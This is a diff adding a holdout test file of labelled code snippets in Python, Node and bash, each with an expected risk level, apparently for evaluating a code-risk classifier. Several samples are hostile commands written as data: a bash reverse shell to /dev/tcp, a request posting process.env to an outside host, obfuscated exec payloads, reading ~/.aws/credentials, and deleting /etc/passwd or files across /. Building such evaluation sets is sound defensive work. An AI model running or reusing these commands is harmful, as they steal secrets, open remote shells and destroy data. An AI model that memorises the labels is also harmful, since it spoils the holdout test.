@@ -1,0 +1,43 @@
+// A second labelled set, written after the rules were tuned on snippets.ts and never used to tune them: the
+// confusion test prints its matrix apart, as the honest measure of how the rules generalise.
+
+import type { Snippet } from './snippets.ts';
+
+export const HOLDOUT: readonly Snippet[] = [
+  { id: 'h-py-plot', lang: 'python', expected: 'LOW', code: 'data = [x ** 2 for x in range(100)]\nwith open("squares.txt", "w") as f:\n    f.write("\\n".join(map(str, data)))' },
+  { id: 'h-py-regex', lang: 'python', expected: 'LOW', code: 'import re\nprint(re.findall(r"\\d+", "a1b22c333"))' },
+  { id: 'h-py-walk', lang: 'python', expected: 'LOW', code: 'import os\nfor root, dirs, files in os.walk("."):\n    print(root, len(files))' },
+  { id: 'h-py-popen-var', lang: 'python', expected: 'HIGH', code: 'import subprocess, sys\nsubprocess.Popen(sys.argv[1:])' },
+  { id: 'h-py-http-server', lang: 'python', expected: 'HIGH', code: 'from http.server import HTTPServer, SimpleHTTPRequestHandler\nHTTPServer(("", 8000), SimpleHTTPRequestHandler).serve_forever()' },
+  { id: 'h-py-unlink-etc', lang: 'python', expected: 'BLOCKED', code: 'import os\nos.unlink("/etc/passwd")' },
+  { id: 'h-py-environ-dump', lang: 'python', expected: 'MEDIUM', code: 'import os\nfor k, v in os.environ.items():\n    print(k)' },
+  { id: 'h-py-chr-exec', lang: 'python', expected: 'BLOCKED', code: 'code = "".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41])\nexec(code)' },
+  { id: 'h-py-zlib-exec', lang: 'python', expected: 'BLOCKED', code: 'import zlib, base64\nexec(zlib.decompress(base64.b64decode(b"eJwrKMrMK9EwBAAK+QJd")))' },
+  { id: 'h-py-sudo', lang: 'python', expected: 'HIGH', code: 'import subprocess\nsubprocess.run(["sudo", "apt-get", "install", "-y", "curl"])' },
+  { id: 'h-py-aws-creds', lang: 'python', expected: 'HIGH', code: 'import configparser, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser("~/.aws/credentials"))' },
+  { id: 'h-py-big-list', lang: 'python', expected: 'MEDIUM', code: 'x = [0] * (10 ** 10)\nprint(len(x))' },
+  { id: 'h-py-write-var-path', lang: 'python', expected: 'MEDIUM', code: 'import sys\nopen(sys.argv[1], "w").write("data")' },
+  { id: 'h-js-readline', lang: 'node', expected: 'LOW', code: 'const lines = require("fs").readFileSync("notes.md", "utf8").split("\\n");\nconsole.log(lines.length);' },
+  { id: 'h-js-class', lang: 'node', expected: 'LOW', code: 'class Stack { #xs = []; push(x) { this.#xs.push(x); } }\nnew Stack().push(1);' },
+  { id: 'h-js-dgram', lang: 'node', expected: 'HIGH', code: 'import dgram from "node:dgram";\nconst s = dgram.createSocket("udp4");\ns.send("hi", 53, "8.8.8.8");' },
+  { id: 'h-js-vm', lang: 'node', expected: 'HIGH', code: 'import vm from "node:vm";\nvm.runInNewContext(process.argv[2], {});' },
+  { id: 'h-js-unlink-outside', lang: 'node', expected: 'HIGH', code: 'import { unlinkSync } from "node:fs";\nunlinkSync("/data/important.db");' },
+  { id: 'h-js-fromcharcode', lang: 'node', expected: 'BLOCKED', code: 'const s = String.fromCharCode(99, 111, 110, 115, 111, 108, 101);\neval(s + ".log(1)");' },
+  { id: 'h-js-env-dump-http', lang: 'node', expected: 'BLOCKED', code: 'import https from "node:https";\nconst r = https.request("https://c.example", { method: "POST" });\nr.end(JSON.stringify(process.env));' },
+  { id: 'h-js-import-dynamic', lang: 'node', expected: 'HIGH', code: 'const mod = await import(process.env.PLUGIN);\nmod.default();' },
+  { id: 'h-js-execfile-pip', lang: 'node', expected: 'HIGH', code: 'import { execFileSync } from "node:child_process";\nexecFileSync("pip3", ["install", "flask"]);' },
+  { id: 'h-js-chmod-suid', lang: 'node', expected: 'HIGH', code: 'import fs from "node:fs";\nfs.chmodSync("./tool", 0o4755);' },
+  { id: 'h-js-big-buffer', lang: 'node', expected: 'MEDIUM', code: 'const b = Buffer.alloc(16 * 2 ** 30);' },
+  { id: 'h-sh-tar', lang: 'bash', expected: 'LOW', code: 'tar czf backup.tgz src/ && ls -la backup.tgz' },
+  { id: 'h-sh-sed', lang: 'bash', expected: 'LOW', code: "sed -i 's/foo/bar/g' config.txt" },
+  { id: 'h-sh-nc', lang: 'bash', expected: 'HIGH', code: 'nc -l 4444' },
+  { id: 'h-sh-reverse-shell', lang: 'bash', expected: 'BLOCKED', code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' },
+  { id: 'h-sh-npm-global', lang: 'bash', expected: 'HIGH', code: 'npm install -g typescript' },
+  { id: 'h-sh-find-delete-root', lang: 'bash', expected: 'BLOCKED', code: 'find / -name "*.log" -delete' },
+  { id: 'h-sh-shutdown', lang: 'bash', expected: 'BLOCKED', code: 'shutdown -h now' },
+  { id: 'h-sh-xxd-bash', lang: 'bash', expected: 'BLOCKED', code: 'echo 6c73 | xxd -r -p | bash' },
+  { id: 'h-sh-ssh', lang: 'bash', expected: 'HIGH', code: 'ssh user@host.example "uptime"' },
+  { id: 'h-sh-history', lang: 'bash', expected: 'MEDIUM', code: 'history -c' },
+  { id: 'h-sh-kill', lang: 'bash', expected: 'MEDIUM', code: 'pkill -f server.py' },
+  { id: 'h-sh-python-c', lang: 'bash', expected: 'MEDIUM', code: 'python3 -c "print(42)"' },
+];
